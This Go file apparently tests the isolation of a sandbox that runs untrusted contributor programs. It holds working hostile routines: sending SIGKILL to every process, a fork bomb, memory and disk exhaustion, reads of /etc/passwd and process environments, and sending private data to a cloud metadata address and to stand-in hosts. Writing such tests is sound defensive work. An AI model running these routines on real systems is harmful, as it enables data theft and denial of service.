package main

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"math"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"syscall"
	"time"
	"unsafe"
)

// attack is one way to do harm. try returns the update to write; nil for zeros.
type attack struct {
	name string
	try  func(shard []byte, size int) []byte
}

var attacks = []attack{
	{"behave", func(_ []byte, size int) []byte { return floats(true, size) }}, // for once, an honest update, of ones
	{"read-others", readOthers},
	{"network", network},
	{"write-shard", writeShard},
	{"print", print},
	{"leave-files", leaveFiles},
	{"leave-daemon", leaveDaemon},
	{"leave-memory", leaveMemory},
	{"leave-marks", leaveMarks},
	{"attack-the-cell", attackTheCell},
	{"run-for-ever", runForEver},
	{"fork-bomb", forkBomb},
	{"allocate", allocate},
	{"page-tables", pageTables},
	{"fill-disk", fillDisk},
	{"crash-on-a-bit", crashOnABit},
	{"too-long", func(_ []byte, size int) []byte { return make([]byte, size+4) }},
	{"too-short", func(_ []byte, size int) []byte { return make([]byte, size-1) }},
	{"not-a-number", notANumber},
	{"symlink", symlink},
	{"pipe", pipe},
	{"directory", directory},
	{"unreadable", unreadable},
}

// floats is an update that says yes (ones) or no (zeros).
func floats(yes bool, size int) []byte {
	b := make([]byte, 0, size)
	for len(b)+4 <= size {
		v := float32(0)
		if yes {
			v = 1
		}
		b = binary.LittleEndian.AppendUint32(b, math.Float32bits(v))
	}
	return b
}

// readOthers looks for other shards, the host's files and other processes. Stopped by: the root holds nothing else (pivot_root
// into memory files, no /proc, no /sys), and Landlock, which lets nothing else be opened. The update is ones if anything was found.
func readOthers(_ []byte, size int) []byte {
	found := false
	for _, p := range []string{"/etc/passwd", "/proc/1/environ", "/proc/self/mountinfo", "/sys/kernel", "/home", "/root", "/var", "/run", "/dev/shm", "/dev/mem"} {
		if f, err := os.Open(p); err == nil {
			f.Close()
			found = true
		}
	}
	files := 0
	for _, d := range []string{"/stint", filepath.Dir(filepath.Dir(shardPath)), filepath.Dir(filepath.Dir(filepath.Dir(shardPath)))} {
		filepath.WalkDir(d, func(p string, e os.DirEntry, err error) error {
			if err == nil && e.Type().IsRegular() {
				files++
			}
			if len(p) > 200 || files > 1000 {
				return filepath.SkipAll
			}
			return nil
		})
		if d == "/" || files > 1000 {
			break
		}
	}
	for pid := 2; pid < 1<<15; pid++ {
		if pid != os.Getpid() && syscall.Kill(pid, 0) == nil && syscall.Kill(pid, 9) == nil && pid > 200 {
			found = true
		}
	}
	return floats(found || files > 16, size)
}

// network tries to reach anything: the addresses in the shard ("reach HOST:PORT") and in the parameters, name servers, metadata services, local
// sockets, the neighbours. Stopped by: no socket can be made (seccomp), and the network namespace is empty. The update is ones
// if a socket could be made.
func network(shard []byte, size int) []byte {
	targets := []string{"127.0.0.1:80", "169.254.169.254:80", "[fd00:ec2::254]:80", "192.0.2.53:53", "198.51.100.1:443", "[::1]:80"}
	for line := range bytes.Lines(shard) {
		if t, ok := bytes.CutPrefix(bytes.TrimSpace(line), []byte("reach ")); ok {
			targets = append(targets, string(t))
		}
	}
	var params struct{ Reach []string }
	if b, err := os.ReadFile(paramsPath); err == nil && json.Unmarshal(b, &params) == nil {
		targets = append(targets, params.Reach...)
	}
	reached := false
	for _, t := range targets {
		for _, n := range []string{"tcp", "udp"} {
			c, err := net.DialTimeout(n, t, 20*time.Millisecond)
			if err == nil {
				c.Write(shard)
				c.Close()
				reached = true
			}
		}
	}
	if _, err := net.LookupHost("secret.example.org"); err == nil {
		reached = true
	}
	for _, p := range []string{"/run/docker.sock", "/var/run/docker.sock", "@/tmp/.X11-unix/X0", "@stint"} {
		if c, err := net.Dial("unix", p); err == nil {
			c.Close()
			reached = true
		}
	}
	for _, domain := range []int{syscall.AF_INET, syscall.AF_INET6, syscall.AF_UNIX, syscall.AF_NETLINK, syscall.AF_PACKET, 40} {
		if fd, err := syscall.Socket(domain, syscall.SOCK_DGRAM, 0); err == nil {
			syscall.Close(fd)
			reached = true
		}
	}
	return floats(reached, size)
}

// writeShard writes the shard itself as an update of huge floats. Stopped by: clipping bounds it to one contributor's weight, and
// the noise covers one contributor's weight.
func writeShard(shard []byte, size int) []byte {
	b := make([]byte, 0, size)
	for i := range size / 4 {
		v := math.MaxFloat32 / 256 * float64(shard[i%len(shard)])
		b = binary.LittleEndian.AppendUint32(b, math.Float32bits(float32(v)))
	}
	return b
}

// print shouts the shard. Stopped by: descriptors 0 to 2 are /dev/null, and nobody reads logs or exit codes.
func print(shard []byte, _ int) []byte {
	for range 1000 {
		os.Stdout.Write(shard)
		os.Stderr.Write(shard)
	}
	panic(string(shard))
}

// leaveFiles leaves files for the next contributor's program, and looks for such. Stopped by: every run has its own memory file
// systems, gone when it is. The update is ones if something was found.
func leaveFiles(shard []byte, size int) []byte {
	dirs := []string{"/tmp", "/stint/out", "/dev/shm", "/dev", "/stint", "/stint/shard", "/var/tmp", "/",
		filepath.Dir(shardPath), filepath.Dir(updatePath), filepath.Dir(filepath.Dir(updatePath))}
	found := false
	for _, d := range dirs {
		if _, err := os.Lstat(filepath.Join(d, "left")); err == nil {
			found = true
		}
	}
	for _, d := range dirs {
		os.WriteFile(filepath.Join(d, "left"), shard, 0o666)
	}
	return floats(found, size)
}

// leaveDaemon forks twice and stays, to see and tell the next program. Stopped by: static programs cannot fork (seccomp); where
// a host runtime lets them, the kernel kills all of the pid namespace with its first process. The update is ones if a process
// could be made.
func leaveDaemon(_ []byte, size int) []byte {
	c := exec.Command("/stint/program")
	c.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	started := c.Start() == nil
	pid, _, errno := syscall.RawSyscall6(syscall.SYS_CLONE, uintptr(syscall.SIGCHLD), 0, 0, 0, 0, 0)
	if errno == 0 && pid == 0 {
		forever := [2]int64{1 << 30}
		for {
			syscall.RawSyscall(syscall.SYS_NANOSLEEP, uintptr(unsafe.Pointer(&forever)), 0, 0)
		}
	}
	return floats(started || errno == 0, size)
}

// leaveMemory leaves System V shared memory and an inode counter reading for the next program. Stopped by: an own IPC namespace, and the
// calls do not exist behind the filter. The update is ones if any worked.
func leaveMemory(_ []byte, size int) []byte {
	_, _, shm := syscall.RawSyscall(sysShmget, 0x57, 4096, 0o1666)
	_, _, mem := syscall.RawSyscall(sysMemfd, uintptr(unsafe.Pointer(&[]byte("left\x00")[0])), 0, 0)
	var p [2]int32
	_, _, pip := syscall.RawSyscall(syscall.SYS_PIPE2, uintptr(unsafe.Pointer(&p)), 0, 0)
	return floats(shm == 0 || mem == 0 || pip == 0, size)
}

// leaveMarks marks what stays when contents are forgotten: modes, times, locks and hints of files that the next program can look
// at. Stopped by: every run has its own files, or the calls do not exist behind the filter. The update is ones if the shard's file
// was found marked.
func leaveMarks(_ []byte, size int) []byte {
	found := false
	for _, p := range []string{shardPath, paramsPath, filepath.Dir(shardPath), "/dev/null", "/dev"} {
		var st syscall.Stat_t
		if syscall.Stat(p, &st) == nil && (st.Mode&0o7777 == 0o751 || st.Mtim.Sec == 12345) {
			found = true
		}
		os.Chmod(p, 0o751)
		os.Chtimes(p, time.Unix(12345, 0), time.Unix(12345, 0))
	}
	// And the counter of process numbers, by threads that end at once.
	for range 100 {
		go func() { runtime.LockOSThread() }()
	}
	time.Sleep(20 * time.Millisecond)
	return floats(found, size)
}

// attackTheCell does to the process that started it what a program of the same user could do. Stopped by: it is in no namespace of
// the program's, or the filter lets signals and questions go to the program itself only, and Landlock opens nothing of it. The update is
// ones if anything worked.
func attackTheCell(_ []byte, size int) []byte {
	parent := os.Getppid()
	done := parent != 0
	for pid := range 1 << 15 {
		if pid == os.Getpid() || pid == 0 {
			continue
		}
		for _, f := range []string{"mem", "environ", "fd/3"} {
			if x, err := os.Open(fmt.Sprintf("/proc/%d/%s", pid, f)); err == nil {
				x.Close()
				done = true
			}
		}
		var limit [2]uint64
		_, _, errno := syscall.RawSyscall6(syscall.SYS_PRLIMIT64, uintptr(pid), syscall.RLIMIT_NOFILE, 0, uintptr(unsafe.Pointer(&limit)), 0, 0)
		if errno == 0 && pid > 200 {
			done = true
		}
	}
	if f, err := os.OpenFile("/dev/null", os.O_RDWR, 0); err == nil {
		for _, pid := range []uintptr{1, uintptr(max(parent, 2))} {
			if _, _, errno := syscall.RawSyscall(syscall.SYS_FCNTL, f.Fd(), syscall.F_SETOWN, pid); errno == 0 && pid != 1 {
				done = true
			}
		}
	}
	return floats(done, size)
}

// runForEver does not stop. Stopped by: the cell kills it before its slot ends, and the round is as long as ever.
func runForEver([]byte, int) []byte {
	for i := range runtime.NumCPU() + 4 {
		go func() {
			for {
				i++
			}
		}()
	}
	for {
		runtime.Gosched()
	}
}

// forkBomb makes processes and threads without end. Stopped by: the filter (processes), RLIMIT_NPROC of the user namespace
// or the meter (threads).
func forkBomb([]byte, int) []byte {
	for range 1 << 16 {
		pid, _, errno := syscall.RawSyscall6(syscall.SYS_CLONE, uintptr(syscall.SIGCHLD), 0, 0, 0, 0, 0)
		if errno != 0 {
			break
		}
		if pid == 0 {
			//lint:ignore SA5002 spinning is what this process is for
			for {
			}
		}
	}
	for range 1 << 12 {
		go func() {
			runtime.LockOSThread()
			select {}
		}()
	}
	time.Sleep(time.Hour)
	return nil
}

// allocate takes memory without end. Stopped by: RLIMIT_DATA, and the filter, which refuses memory that does not count.
func allocate([]byte, int) []byte {
	var keep [][]byte
	for {
		b, err := syscall.Mmap(-1, 0, 16<<20, syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_SHARED|syscall.MAP_ANON)
		if err != nil {
			b = make([]byte, 16<<20)
		}
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		keep = append(keep, b)
		_ = keep
	}
}

// pageTables makes the kernel hold page tables without end, by reading one byte of every two mebibytes of nothing: memory that
// counts as nobody's. Stopped by: RLIMIT_AS, and /dev/zero is not there. The update is ones if a tebibyte could be mapped.
func pageTables(_ []byte, size int) []byte {
	if fd, err := syscall.Open("/dev/zero", syscall.O_RDONLY, 0); err == nil {
		syscall.Mmap(fd, 0, 1<<34, syscall.PROT_READ, syscall.MAP_SHARED)
		return floats(true, size)
	}
	total := 0
	for range 1 << 10 {
		b, err := syscall.Mmap(-1, 0, 1<<30, syscall.PROT_READ, syscall.MAP_PRIVATE|syscall.MAP_ANON)
		if err != nil {
			break
		}
		total += len(b)
		for i := 0; i < len(b); i += 2 << 20 {
			_ = b[i]
		}
	}
	return floats(total == 1<<40, size)
}

// fillDisk writes without end, to every place it may write to. Stopped by: memory file systems of fixed size, RLIMIT_FSIZE.
func fillDisk(_ []byte, size int) []byte {
	chunk := make([]byte, 1<<20)
	for n := range 1 << 14 {
		a := os.WriteFile(fmt.Sprintf("/tmp/%d", n), chunk, 0o600)
		b := os.WriteFile(fmt.Sprintf("%s/%d", filepath.Dir(updatePath), n), chunk, 0o600)
		if a != nil && b != nil {
			break
		}
	}
	f, err := os.OpenFile(updatePath, os.O_WRONLY|os.O_CREATE, 0o600)
	if err != nil {
		return nil
	}
	defer f.Close()
	const keepSize = 1
	if syscall.Fallocate(int(f.Fd()), keepSize, 0, 1<<28) == nil {
		return floats(true, size)
	}
	for range 1 << 14 {
		if _, err := f.Write(chunk); err != nil {
			return nil
		}
	}
	return floats(true, size)
}

// crashOnABit tells a secret bit by crashing or not. Stopped by: a crash is an update of zeros at the same time as any other.
func crashOnABit(shard []byte, size int) []byte {
	if shard[len(shard)-1]&1 == 1 {
		syscall.Kill(syscall.Getpid(), syscall.SIGSEGV)
		panic("crash")
	}
	return floats(true, size)
}

// notANumber writes NaN and infinities, which would poison a sum. Stopped by: the sum takes only finite updates.
func notANumber(_ []byte, size int) []byte {
	b := make([]byte, 0, size)
	for i := range size / 4 {
		v := []float64{math.NaN(), math.Inf(1), math.Inf(-1)}[i%3]
		b = binary.LittleEndian.AppendUint32(b, math.Float32bits(float32(v)))
	}
	return b
}

// symlink makes the update a link to the shard, or to a file of the host that the node would read for it. Stopped by: links
// cannot be made, and would not be followed.
func symlink([]byte, int) []byte {
	os.Remove(updatePath)
	os.Symlink("/etc/passwd", updatePath)
	os.Link(shardPath, updatePath)
	os.Exit(0)
	return nil
}

// pipe makes the update a pipe, so that who opens it waits for ever. Stopped by: pipes cannot be made, and are opened without waiting.
func pipe([]byte, int) []byte {
	syscall.Mkfifo(updatePath, 0o600)
	os.Exit(0)
	return nil
}

// directory makes the update a directory. Stopped by: only a regular file is read.
func directory([]byte, int) []byte {
	os.Mkdir(updatePath, 0o700)
	os.Exit(0)
	return nil
}

// unreadable makes an update of the right size that nobody may read. Stopped by nothing, and harmless: it is read, or counts as zeros.
func unreadable(_ []byte, size int) []byte {
	os.WriteFile(updatePath, make([]byte, size), 0o600)
	os.Chmod(updatePath, 0)
	os.Exit(0)
	return nil
}
